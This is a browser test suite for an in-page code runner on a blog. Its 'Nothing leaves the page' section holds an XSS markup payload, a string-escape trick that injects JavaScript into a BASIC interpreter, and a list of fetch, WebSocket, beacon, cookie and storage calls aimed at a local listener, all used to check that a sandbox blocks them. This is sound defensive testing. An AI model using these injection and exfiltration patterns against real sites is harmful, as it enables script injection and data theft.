"""nn-run in a real browser: programs run, change and stop there, and nothing that they do leaves the page."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from figures_seen import until
from playwright.sync_api import Browser, Page, expect

pytestmark = pytest.mark.xdist_group("browser")  # one worker: they share one build of this checkout

REPOSITORY = Path(__file__).resolve().parents[2]
PRINTED = json.loads((REPOSITORY / "interactive/src/golden/run.json").read_text(encoding="utf-8"))["printed"]
LONG = 60_000  # ms; a slow machine needs seconds for net.py


@dataclass(frozen=True)
class Program:
    """One nn-run of the posts."""

    page: str
    figure: str
    listing: str


NET = Program("02-simpler-than-you-think", "fig-run", "net.py")
PERCEPTRON = Program("01-origin-story", "fig-screen", "perceptron.bas")
XOR = Program("01-origin-story", "fig-xor-screen", "xor.bas")


class Runner:
    """The figure on the page, as its reader uses it."""

    def __init__(self, page: Page, site: str, program: Program) -> None:
        self.page = page
        page.goto(f"{site}/posts/{program.page}.html")
        self.element = page.locator(f"#{program.figure} nn-run")
        self.element.scroll_into_view_if_needed()
        expect(self.element).to_have_attribute("data-phase", "live", timeout=LONG)
        self.screen = self.element.locator(".nn-stage .nn-screen")
        self.verdict = self.element.locator(".nn-run-verdict")
        self.editor = self.element.get_by_role("textbox")

    def press(self, name: str) -> None:
        self.element.get_by_role("button", name=name).click()

    def ended(self, state: str) -> None:
        expect(self.element).to_have_attribute("data-state", state, timeout=LONG)

    def write(self, text: str) -> None:
        if not self.editor.is_visible():
            self.press("Edit")
        self.editor.fill(text)

    def run(self, text: str, state: str = "done") -> str:
        """Run `text`; what is on the screen in the end."""
        self.write(text)
        self.press("Run")
        # the figure still says how the run before ended, until a press is drawn: two frames
        self.page.evaluate(
            "new Promise((d) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(d))))"
        )
        self.ended(state)
        return self.screen.inner_text()


@pytest.fixture(params=[NET, PERCEPTRON, XOR], ids=lambda program: program.listing)
def program(request: pytest.FixtureRequest) -> Program:
    return request.param


@pytest.fixture
def python(page: Page, site_url: str) -> Runner:
    return Runner(page, site_url, NET)


@pytest.fixture
def basic(page: Page, site_url: str) -> Runner:
    return Runner(page, site_url, PERCEPTRON)


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server elsewhere that programs try to reach: its address, and the requests that arrive."""
    arrived: list[str] = []

    class Listen(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            arrived.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()

        do_POST = do_OPTIONS = do_GET  # noqa: N815 (the server calls them so)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listen)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", arrived
    server.shutdown()


# --- The programs of the posts ---------------------------------------------------------------------------------------


def test_the_poster_is_what_the_program_printed_and_the_text_is_the_published_file(
    browser: Browser, site_url: str, program: Program
):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{site_url}/posts/{program.page}.html")
    element = page.locator(f"#{program.figure} nn-run")
    expect(element.locator(".nn-poster pre")).to_be_visible()
    assert element.locator(".nn-poster pre").text_content() == PRINTED[program.listing].rstrip()
    listing = REPOSITORY / "posts" / "listings" / program.listing
    assert element.get_attribute("data-program") == listing.read_text(encoding="utf-8")
    context.close()


def test_it_runs_by_keyboard_and_says_how_it_compares_with_the_build(page: Page, site_url: str, program: Program):
    runner = Runner(page, site_url, program)
    expect(runner.verdict).to_contain_text("when this page was built")
    runner.screen.focus()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    runner.ended("done")
    same = "the same digits as" if program is not XOR else "printed at the build"
    expect(runner.verdict).to_contain_text(same)
    expect(runner.verdict).not_to_contain_text("differs")
    printed = runner.screen.inner_text().split()
    wanted = PRINTED[program.listing].split()
    assert len(printed) == len(wanted)
    assert program is XOR or printed == wanted
    assert page.evaluate("document.activeElement.textContent") == "Run"


def test_nothing_is_loaded_before_the_first_run(page: Page, site_url: str):
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    runner = Runner(page, site_url, NET)
    page.wait_for_load_state("networkidle")
    assert not any("/vendor/" in url or "worker" in url for url in asked)
    runner.press("Run")
    runner.ended("done")
    assert any(url.endswith("/micropython.wasm") for url in asked)
    asked.clear()
    runner.press("Run")
    runner.ended("done")
    assert not any(url.startswith("http") for url in asked)


def test_a_changed_program_runs_and_is_not_compared_and_reset_brings_the_post_back(python: Runner):
    page = python.page
    python.press("Edit")
    expect(python.editor).to_be_focused()
    page.keyboard.press("Control+A")
    page.keyboard.insert_text("print(6 * 7)")
    expect(python.verdict).to_contain_text("Edited, and not run yet")
    page.keyboard.press("Control+Enter")
    python.ended("done")
    expect(python.screen).to_have_text("42")
    expect(python.verdict).to_contain_text("edited, so there is nothing to compare")
    python.press("Reset")
    expect(python.screen).to_have_text(PRINTED["net.py"].rstrip())
    expect(python.editor).to_have_value((REPOSITORY / "posts/listings/net.py").read_text(encoding="utf-8"))


def test_tab_indents_and_escape_leads_out_of_the_text(python: Runner):
    page = python.page
    python.write("")
    python.editor.focus()
    page.keyboard.type("if 1:")
    page.keyboard.press("Enter")
    page.keyboard.type("print(1)")
    page.keyboard.press("Tab")
    expect(python.editor).to_have_value("if 1:\n    print(1)    ")
    page.keyboard.press("Control+Z")
    expect(python.editor).not_to_have_value("if 1:\n    print(1)    ")
    page.keyboard.press("Escape")
    page.keyboard.press("Tab")
    expect(python.editor).not_to_be_focused()


def test_a_reader_finds_out_in_basic_what_part_2_tells(page: Page, site_url: str):
    runner = Runner(page, site_url, XOR)
    listing = (REPOSITORY / "posts/listings/xor.bas").read_text(encoding="ascii")
    shown = runner.run(listing.replace("L(50)", "L(2000)").replace("1 TO 50", "1 TO 2000"))
    assert shown.splitlines()[-1].startswith("EPOCH 2000 LOSS")
    assert float(shown.split()[-1]) < 0.01


@pytest.mark.parametrize("fixture", ["python", "basic"])
def test_a_mistake_is_told_on_the_screen(request: pytest.FixtureRequest, fixture: str):
    runner: Runner = request.getfixturevalue(fixture)
    shown = runner.run("print(1)\nnonsense(2)" if fixture == "python" else "10 PRINT 1\n20 GOTO 99", "error")
    assert shown.splitlines()[0].strip() == "1"
    assert ("NameError" if fixture == "python" else "undefined line number") in shown
    expect(runner.verdict).to_contain_text("Stopped by an error")


# --- Programs that do not end ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fixture", "text"),
    [("python", "print('on')\nwhile True: pass"), ("basic", '5 PRINT "on"\n10 GOTO 10')],
    ids=["python", "basic"],
)
def test_an_endless_loop_holds_up_nobody_and_is_stopped(request: pytest.FixtureRequest, fixture: str, text: str):
    runner: Runner = request.getfixturevalue(fixture)
    page = runner.page
    runner.write(text)
    runner.press("Run")
    expect(runner.screen).to_have_text("on", timeout=LONG)
    assert len(page.workers) == 1
    frames = "new Promise(done => { let n = 20; const f = () => n-- ? requestAnimationFrame(f) : done(true); f(); })"
    assert page.evaluate(frames), "the page still draws"
    runner.editor.focus()
    page.keyboard.press("Control+End")
    page.keyboard.type("x")
    expect(runner.editor).to_have_value(text + "x")
    expect(runner.element).to_have_attribute("data-state", "running")
    runner.press("Stop")
    expect(runner.verdict).to_contain_text("Stopped by you")
    expect(page.locator("nn-run iframe")).to_have_count(0)
    assert page.evaluate(frames)
    assert until(page, lambda: page.workers == []), "the page let go of it; that it has ended is told a little later"
    assert runner.run("print(7)" if fixture == "python" else "10 PRINT 7").strip() == "7"


@pytest.mark.parametrize(
    ("fixture", "text"),
    [("python", "while True: print('<b>')"), ("basic", '10 PRINT "<b>": GOTO 10')],
    ids=["python", "basic"],
)
def test_endless_output_is_cut_off(request: pytest.FixtureRequest, fixture: str, text: str):
    runner: Runner = request.getfixturevalue(fixture)
    assert runner.run(text, "full").splitlines() == ["<b>"] * 2000
    expect(runner.verdict).to_contain_text("after 2,000 lines")
    expect(runner.page.locator("nn-run iframe")).to_have_count(0)


def test_another_run_ends_the_one_before(python: Runner):
    python.write("while True: pass")
    python.press("Run")
    expect(python.element).to_have_attribute("data-state", "running", timeout=LONG)
    assert python.run("print('second')") == "second"
    expect(python.page.locator("nn-run iframe")).to_have_count(0)


# --- Nothing leaves the page -----------------------------------------------------------------------------------------

MARKUP = "<img src=x onerror=top.was=1><script>top.was=1</script>"


@pytest.mark.parametrize("fixture", ["python", "basic"])
def test_hostile_output_stays_text(request: pytest.FixtureRequest, fixture: str):
    runner: Runner = request.getfixturevalue(fixture)
    text = f'print("{MARKUP}")' if fixture == "python" else f'10 PRINT "{MARKUP}"'
    assert runner.run(text).strip() == MARKUP
    assert runner.element.locator("img, .nn-screen *").count() == 0
    assert runner.page.evaluate("window.was") is None


@pytest.mark.parametrize("text", ["import js\njs.fetch(URL)", "__import__('jsffi')", "import asyncio"])
def test_python_does_not_get_at_javascript(python: Runner, listener: tuple[str, list[str]], text: str):
    url, arrived = listener
    shown = python.run(text.replace("URL", repr(url)), "error")
    assert "cannot reach the page" in shown
    assert arrived == []


def breakout(script: str) -> str:
    """A listing whose strings, written into wwwbasic's JavaScript, end early and leave `script` as code."""
    assert '"' not in script
    return f'10 PRINT "\\","))]);{script};([0])//"'


WAYS_OUT = [
    "fetch(`URL`)",
    "new XMLHttpRequest().open(`GET`, `URL`)",
    "new WebSocket(`ws:URL`)",
    "new EventSource(`URL`)",
    "importScripts(`URL`)",
    "new Worker(`URL`)",
    "navigator.sendBeacon(`URL`)",
    "indexedDB.open(`x`)",
    "caches.open(`x`)",
    "new BroadcastChannel(`x`)",
    "postMessage(`x`)",
    "top.document",
    "document.cookie",
    "localStorage.x",
]


def test_the_breakout_is_real(basic: Runner):
    assert "42 null" in basic.run(breakout("console.log(`${6 * 7} ${origin}`)"))


@pytest.mark.parametrize("way", WAYS_OUT)
def test_javascript_smuggled_into_basic_finds_nothing_to_call(basic: Runner, listener: tuple[str, list[str]], way: str):
    url, arrived = listener
    attempt = f"try{{ {way.replace('URL', url)}; console.log(`out`) }}catch(e){{ console.log(`refused ${{e}}`) }}"
    shown = basic.run(breakout(attempt))
    assert "refused" in shown
    assert "is not" in shown or "undefined" in shown
    assert arrived == []


PERMITTED = """
onmessage = async ({ports: [port]}) => {
  let answer;
  try { answer = "out " + await (async () => WAY)() } catch (error) { answer = "refused " + error }
  port.postMessage({kind: "line", text: String(answer)});
};
"""


@pytest.mark.parametrize(
    "way",
    [
        "fetch(`URL`)",
        "fetch(`URL`, {method: `POST`, body: `x`, mode: `no-cors`, keepalive: true})",
        "(() => { const r = new XMLHttpRequest(); r.open(`GET`, `URL`, false); r.send() })()",
        "new Promise((yes, no) => { const s = new WebSocket(`ws${`URL`.slice(4)}`); s.onopen = yes; s.onerror = no })",
        "new Promise((yes, no) => { const s = new EventSource(`URL`); s.onopen = yes; s.onerror = no })",
        "import(`URL`)",
        "importScripts(`URL`)",
        "new Promise((yes, no) => { const w = new Worker(`URL`); w.onmessage = yes; w.onerror = no })",
        "new Promise((yes, no) => { const r = indexedDB.open(`x`); r.onsuccess = yes; r.onerror = no })",
        "caches.open(`x`)",
    ],
)
def test_the_frame_alone_refuses_what_the_worker_denies(python: Runner, listener: tuple[str, list[str]], way: str):
    """The same frame with a worker that denies nothing: the second wall stands without the first."""
    url, arrived = listener
    python.write("while True: pass")
    python.press("Run")
    frame = python.element.locator("iframe")
    expect(frame).to_have_attribute("sandbox", "allow-scripts")
    worker = PERMITTED.replace("WAY", way.replace("URL", url + "/x.js"))
    answer = python.page.evaluate(
        """([srcdoc, worker]) => new Promise((done) => {
          const frame = document.createElement("iframe"), {port1, port2} = new MessageChannel();
          frame.setAttribute("sandbox", "allow-scripts");
          frame.srcdoc = srcdoc;
          port1.onmessage = ({data}) => done(data.text);
          frame.onload = () => frame.contentWindow.postMessage({worker, job: {}}, "*", [port2]);
          document.body.append(frame);
        })""",
        [frame.get_attribute("srcdoc"), worker],
    )
    assert answer.startswith("refused")
    assert arrived == []
    python.press("Stop")


# --- Without a network -----------------------------------------------------------------------------------------------


def test_after_one_run_it_needs_no_network(python: Runner):
    python.run("print(1)")
    python.page.context.set_offline(True)
    assert python.run("print('no network')") == "no network"


def test_a_machine_that_does_not_arrive_is_told_and_can_be_asked_for_again(python: Runner):
    python.page.context.set_offline(True)
    python.write("print('here')")
    python.press("Run")
    python.ended("unloaded")
    expect(python.verdict).to_contain_text("could not be loaded")
    python.page.context.set_offline(False)
    assert python.run("print('here')") == "here"


# --- On a phone ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [360, 320])
def test_on_a_phone_nothing_is_wider_than_the_screen(page: Page, site_url: str, program: Program, width: int):
    page.set_viewport_size({"width": width, "height": 640})
    runner = Runner(page, site_url, program)
    runner.press("Run")
    runner.ended("done")
    runner.press("Edit")
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert runner.screen.evaluate("e => e.scrollWidth <= e.clientWidth")
    buttons = runner.element.get_by_role("group", name="The program").get_by_role("button")
    assert len({round(button.bounding_box()["y"]) for button in buttons.all()}) == 1, "one row"  # type: ignore[index]
